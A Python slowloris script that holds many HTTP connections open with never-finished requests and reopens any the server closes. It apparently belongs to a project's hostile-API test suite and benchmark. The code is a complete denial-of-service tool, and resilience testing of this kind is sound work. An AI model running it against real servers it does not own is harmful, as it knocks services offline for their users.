#!/usr/bin/env python3
"""Slow HTTP clients (slowloris), used by api_hostile.sh and bench/api-hostile.

    slowloris.py HOST PORT N INTERVAL SECONDS

Opens N TCP connections to HOST:PORT, sends "GET / HTTP/1.1" on each, then
one more header line on each every INTERVAL seconds, never ending the
request, for SECONDS seconds.  A connection the server closes is opened
again one second later, as a determined attacker would.  Prints "opened N"
once the first round is connected, then at the end one line
"connections=N reopened=N open_at_end=N".
"""
import socket
import sys
import time


def connect(host, port):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\n")
        s.settimeout(0)
        return s
    except OSError:
        return None


def main():
    host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    interval, seconds = float(sys.argv[4]), float(sys.argv[5])
    end = time.monotonic() + seconds
    socks = [connect(host, port) for _ in range(n)]
    retry = [0.0] * n
    made = sum(s is not None for s in socks)
    reopened = 0
    print("opened %d" % made, flush=True)
    while time.monotonic() < end:
        now = time.monotonic()
        for i in range(n):
            s = socks[i]
            if s is None:
                if now >= retry[i]:
                    socks[i] = connect(host, port)
                    reopened += socks[i] is not None
                    retry[i] = now + 1
                continue
            try:
                if s.recv(1, socket.MSG_PEEK) == b"":
                    raise OSError("closed")
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                socks[i] = None
                retry[i] = now + 1
                continue
            try:
                s.send(b"X-Slow: y\r\n")
            except OSError:
                s.close()
                socks[i] = None
                retry[i] = now + 1
        time.sleep(min(interval, max(0.0, end - time.monotonic())))
    still = sum(s is not None for s in socks)
    print("connections=%d reopened=%d open_at_end=%d" % (n, reopened, still), flush=True)
    for s in socks:
        if s is not None:
            s.close()


if __name__ == "__main__":
    main()
